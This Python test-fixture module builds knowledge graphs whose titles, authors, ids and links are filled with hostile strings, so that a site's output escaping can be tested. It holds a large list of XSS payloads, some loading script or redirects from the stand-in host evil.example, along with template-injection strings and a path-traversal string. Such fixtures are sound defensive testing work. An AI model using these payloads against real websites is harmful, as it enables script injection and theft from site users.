"""Graphs for the tests of the site: the bundled sample, and one whose every text and id is hostile."""

from __future__ import annotations

from functools import lru_cache

import kg
from kg.graph import KnowledgeGraph
from kg.model import Claim, Entity, EntityType, Evidence, LinkKind, Paper, PartialDate, Resource, Span

NASTY: tuple[str, ...] = (
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "' onmouseover='alert(1)",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
    "</title><style>*{display:none}</style>",
    "<!-- --><![CDATA[ ]]> &lt; &amp;amp;",
    "evil\u202egnp.exe \u2066x\u2069",
    "nul\x00byte \x1b[31m \x7f",
    "\ud800 lone surrogate",
    "مجموعة بيانات", "数据集", "𝔾raph 👩‍🔬",
    "line\u2028separator\u2029paragraph\r\nbreak",
    "x" * 10_000,
    "../../etc/passwd", "..", "CON", "con", "Con", "nul.txt", "index", "a/b\\c:d*e?f", "-", "~tilde",
    "urn:thing", "$& $1 \\1", "THING",
)  # fmt: skip


@lru_cache(maxsize=1)
def sample_graph() -> KnowledgeGraph:
    """The bundled sample, read by rules."""
    return kg.build("sample", model="rules")


def nasty_graph(texts: tuple[str, ...] = NASTY) -> KnowledgeGraph:
    """Every text as title, abstract, author, name, alias, identifier, address and id."""
    papers, entities, resources, claims = [], [], [], []
    types = list(EntityType)
    for number, text in enumerate(texts):
        paper = Paper(
            id=f"{text}#{number}" if number % 2 else f"title:{number}",
            title=text,
            abstract=f"We use {text} here. Code will be available soon. " + text,
            authors=(text, text),
            organisation=text,
            venue=text,
            date=PartialDate(2024, number % 12 + 1, 3),
            doi=text if number % 3 == 0 else None,
            links=(text, "javascript:alert(2)"),
            keywords=(text,),
        )
        kind = types[number % len(types)]
        entity = Entity(
            f"{kind}/{text}", kind, text, (text, f"alias {text}"), same_as=(text, f"https://example.org/{text}"),
            close_match=(text,), homepage="javascript:alert(3)",
        )  # fmt: skip
        resource = Resource(f"resource/{text}", text, LinkKind.OTHER, text)
        start = paper.abstract_start + 7
        evidence = Evidence(
            paper.abstract_start,
            len(paper.text),
            paper.text[paper.abstract_start :],
            (Span(start, start + len(text)),),
        )
        papers.append(paper)
        entities.append(entity)
        resources.append(resource)
        for relation, target in (("uses", entity.id), ("has_other", resource.id)):
            claims.append(
                Claim(
                    f"c{number}{relation}",
                    paper.id,
                    paper.node_id,
                    relation,
                    target,
                    evidence,
                    "hand/1",
                    0.5,
                    text,
                )
            )
    return KnowledgeGraph(papers=papers, entities=entities, resources=resources, claims=claims)


_BREAKOUTS = (
    "",
    "'>",
    '">',
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</textarea></style>",
    "`",
    "\\",
    "</svg></math>",
)
_VECTORS = (
    "<script>alert(1)</script>", "<script src=https://evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.png>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=https://evil.example></iframe>",
    "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>", "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>", "<form action=https://evil.example><input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<math href=javascript:alert(1)>x</math>", "<object data=https://evil.example>",
    "<embed src=https://evil.example>", "<video src=https://evil.example autoplay onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>", "<template><img src=x onerror=alert(1)></template>", "onmouseover=alert(1) x=",
    "${alert(1)}", "{{alert(1)}}", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript>alert(1)</script>",
    "<!--<script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "data:text/html,<script>alert(1)</script>",
)  # fmt: skip
PAYLOADS: tuple[str, ...] = tuple(breakout + vector for breakout in _BREAKOUTS for vector in _VECTORS)
